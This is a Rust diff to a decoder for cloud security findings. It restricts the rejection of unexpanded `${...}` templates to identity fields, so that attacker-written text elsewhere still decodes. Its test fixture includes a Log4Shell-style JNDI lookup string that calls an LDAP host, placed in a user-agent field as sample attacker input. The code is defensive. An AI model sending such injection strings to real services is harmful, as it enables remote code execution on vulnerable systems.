@@ -173,11 +173,34 @@ fn finding(value: Value) -> Result<Finding, DecodeError> {
         }
         other => other,
     };
-    if let Some((placeholder, path)) = find_placeholder(&value, &mut String::new()) {
-        return Err(DecodeError::Placeholder { placeholder, path });
+    // Only the fields that say what the finding is and where: a template left
+    // unexpanded there is not a finding. Elsewhere `${...}` is data (a user agent or a
+    // command line an attacker wrote, `${jndi:...}`), and refusing it would let the
+    // attacker make every finding about their instance undecodable.
+    for field in IDENTITY_FIELDS {
+        let Some(v) = field.iter().try_fold(&value, |v, k| v.get(k)) else {
+            continue;
+        };
+        let mut path = field.join(".");
+        if let Some((placeholder, path)) = find_placeholder(v, &mut path) {
+            return Err(DecodeError::Placeholder { placeholder, path });
+        }
     }
     Finding::from_value(value).map_err(|e| DecodeError::MissingField(e.0))
 }
+
+/// The fields that identify a finding and its resource: a `${...}` placeholder in one
+/// of them marks an unexpanded template.
+const IDENTITY_FIELDS: [&[&str]; 8] = [
+    &["id"],
+    &["type"],
+    &["accountId"],
+    &["region"],
+    &["arn"],
+    &["severity"],
+    &["resource", "resourceType"],
+    &["resource", "instanceDetails", "instanceId"],
+];
 
 /// The first string holding an unexpanded `${...}` template placeholder, with its path.
 fn find_placeholder(value: &Value, path: &mut String) -> Option<(String, String)> {
@@ -301,16 +324,23 @@ mod tests {
     }
 
     #[test]
-    fn placeholders_are_named() {
+    fn placeholders_are_named_in_identity_fields_and_data_elsewhere() {
         let mut f = bare();
-        f["title"] = json!("bucket ${bucket_name} is public");
+        f["accountId"] = json!("${account_id}");
         let err = decode_value(f).unwrap_or_default().remove(0).err();
         assert_eq!(
             err,
             Some(DecodeError::Placeholder {
-                placeholder: "${bucket_name}".to_owned(),
-                path: "title".to_owned()
+                placeholder: "${account_id}".to_owned(),
+                path: "accountId".to_owned()
             })
         );
+        // Attacker-written text (a user agent, a title quoting it) is data: a finding
+        // carrying `${jndi:...}` must still decode, or the attacker could make every
+        // finding about their instance fail into the dead-letter queue.
+        let mut f = bare();
+        f["title"] = json!("bucket ${bucket_name} is public");
+        f["service"] = json!({"action": {"awsApiCallAction": {"userAgent": "${jndi:ldap://x/a}"}}});
+        assert!(decode_value(f).unwrap_or_default().remove(0).is_ok());
     }
 }
